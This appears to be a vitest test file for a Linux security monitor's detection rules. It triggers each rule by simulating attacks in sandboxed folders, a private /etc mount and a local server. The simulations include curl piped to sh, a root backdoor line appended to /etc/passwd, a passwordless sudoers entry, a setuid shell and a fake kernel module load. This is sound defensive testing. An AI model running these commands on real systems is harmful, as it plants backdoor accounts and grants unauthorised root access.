/** Each file of examples/rules: the attack is run for real and its rules fire; what is near it does not. */
import { spawnSync, type SpawnSyncOptions } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeScenarios, rules, type Scenario } from './scenarios.js';
import { compile, makeFolder, removeFolder, run } from '../helpers/workspace.js';

/** Nobody: whoever is root already escalates nothing. */
const nobody = 65534;

let folder: string; // in /tmp, where the rules suspect things
let elsewhere: string; // where they do not
let fileless: string;

beforeAll(() => {
  folder = makeFolder();
  mkdirSync('/var/lib/sysmon-test', { recursive: true, mode: 0o755 });
  elsewhere = mkdtempSync('/var/lib/sysmon-test/');
  chmodSync(elsewhere, 0o755);
  fileless = compile(new URL('fileless.c', import.meta.url), join(elsewhere, 'fileless'));
});
afterAll(() => {
  removeFolder(folder);
  rmSync('/var/lib/sysmon-test', { recursive: true });
});

/** A command that must run; what it returns does not matter to the rules. */
function does(command: string, args: readonly string[] = [], options: SpawnSyncOptions = {}): void {
  const { error } = spawnSync(command, args, { cwd: elsewhere, stdio: 'ignore', timeout: 60_000, ...options });
  if (error) throw error;
}

/** As `does`, without blocking this process, which may be the other end. */
async function runs(command: string, args: readonly string[] = []): Promise<void> {
  await run(command, args, { cwd: elsewhere, stdio: 'ignore' }).ended;
}

/** A program by its name: that of the system, or else a stand-in that does nothing. */
function program(name: string): string {
  const { stdout, status } = spawnSync('sh', ['-c', 'command -v "$1"', 'sh', name], { encoding: 'utf8' });
  return status === 0 ? stdout.trim() : standIn('true', name);
}

/** A program of the system under another name, in a folder of this test. */
function standIn(of: string, name: string, where = elsewhere): string {
  const path = join(where, name);
  copyFileSync(`/bin/${of}`, path);
  chmodSync(path, 0o755);
  return path;
}

/** A shell with a folder /etc of its own, so that nobody else's is changed. */
function inOwnEtc(script: string): void {
  const etc = mkdtempSync(join(elsewhere, 'etc-'));
  mkdirSync(join(etc, 'sudoers.d'));
  for (const name of ['passwd', 'passwd-', 'shadow']) writeFileSync(join(etc, name), '');
  const { status, stderr } = spawnSync('unshare', ['-m', 'sh', '-c', `mount --bind ${etc} /etc && ${script}`], {
    cwd: elsewhere,
    encoding: 'utf8',
  });
  if (status !== 0) throw new Error(`${script}: ${stderr}`);
}

/** Serves a program to whoever asks, while `act` runs. */
async function serving(act: (url: string) => Promise<void>): Promise<void> {
  const server = createServer((_, response) => response.end('#!/bin/sh\ntrue\n'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await act(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

const scenarios: Record<string, Scenario> = {
  'download-and-run.yml': {
    fires: {
      T1105: () => serving((url) => runs(program('curl'), ['-so', join(folder, 'fetched'), `${url}/x`])),
      // Neither its arguments nor its folder tell where it writes to.
      'T1105 by the file': () =>
        serving((url) => {
          writeFileSync(join(elsewhere, 'curlrc'), `url = ${url}/x\noutput = ${join(folder, 'hidden')}\n`);
          return runs(program('curl'), ['-sK', 'curlrc']);
        }),
      'T1059.004': () => serving((url) => runs('/bin/sh', ['-c', `${program('curl')} -s ${url}/x | sh`])),
      'T1204.002': () => {
        does(standIn('true', 'dropped', folder));
      },
    },
    quiet: () =>
      serving(async (url) => {
        await runs(program('curl'), ['-s', `${url}/health`]);
        await runs('/bin/sh', ['-c', `${program('curl')} -s ${url}/x | cat`]);
        does('/bin/cp', ['/bin/true', join(folder, 'copied')]);
        does(standIn('true', 'installed'));
      }),
  },
  'fileless.yml': {
    fires: {
      T1620: () => {
        does(fileless, ['memfd', elsewhere, '/bin/true']);
        does(fileless, ['unnamed', elsewhere, '/bin/true']);
      },
      'T1027.011': () => {
        const shared = mkdtempSync('/dev/shm/sysmon-');
        try {
          does(standIn('true', 'x', shared));
        } finally {
          rmSync(shared, { recursive: true });
        }
      },
    },
    quiet: () => {
      does(fileless, ['kept', elsewhere, '/bin/true']);
      does('/bin/ls', ['/dev/shm/']);
    },
  },
  'module-load.yml': {
    fires: {
      'T1547.006': () => {
        // The kernel refuses it, which insmod did not know when it was started.
        writeFileSync(join(folder, 'rootkit.ko'), 'no module');
        does(program('insmod'), [join(folder, 'rootkit.ko')]);
      },
    },
    quiet: () => {
      does(program('modprobe'), ['-n', 'dummy']);
      does('/bin/ls', [join(folder, 'rootkit.ko')]);
    },
  },
  'passwd-tampering.yml': {
    fires: {
      T1098: () => {
        inOwnEtc('echo x::0:0::/:/bin/sh >> /etc/passwd');
        inOwnEtc('cp /etc/shadow /etc/shadow.new; mv /etc/shadow.new /etc/shadow');
      },
      'T1548.003': () => inOwnEtc('echo "mallory ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/mallory'),
    },
    quiet: () => {
      const tool = standIn('sh', 'useradd');
      inOwnEtc(`${tool} -c 'echo x >> /etc/passwd; cp /etc/shadow /etc/new; echo x >> /etc/passwd-'`);
      inOwnEtc('cat /etc/passwd /etc/shadow');
      does('/bin/sh', [
        '-c',
        'mkdir -p etc/sudoers.d; echo x > etc/passwd; echo x >> etc/passwd; echo x > etc/sudoers.d/x',
      ]);
    },
  },
  'privilege-escalation.yml': {
    fires: {
      'T1548.003': () => does(spawnSync('sudo', ['-V']).error ? standIn('true', 'sudo') : 'sudo', ['-n', 'true']),
      'T1548.001': () => {
        const shell = standIn('true', 'rootshell', folder);
        does('/bin/chmod', ['u+s', shell]);
        does(shell, [], { uid: nobody, gid: nobody });
      },
    },
    quiet: () => {
      const tool = standIn('true', 'tool', folder);
      does('/bin/chmod', ['u+x', tool]);
      does('/bin/chmod', ['0755', tool]);
      does(tool, [], { uid: nobody, gid: nobody });
      // The distribution's own way to root for everybody.
      does('/usr/bin/passwd', ['--status'], { uid: nobody, gid: nobody });
    },
  },
};

describeScenarios(scenarios);

test('there is a scenario for each file', () => {
  const files = readdirSync(rules).filter((f) => f.endsWith('.yml'));
  // rules-network.test.ts and rules-system.test.ts
  expect(files.filter((f) => !(f in scenarios)).sort()).toEqual([
    'c2-connection.yml',
    'docker-socket.yml',
    'mount-escape.yml',
    'raw-socket.yml',
    'sensor-signal.yml',
    'ssh-lateral-movement.yml',
    'unusual-listener.yml',
  ]);
});
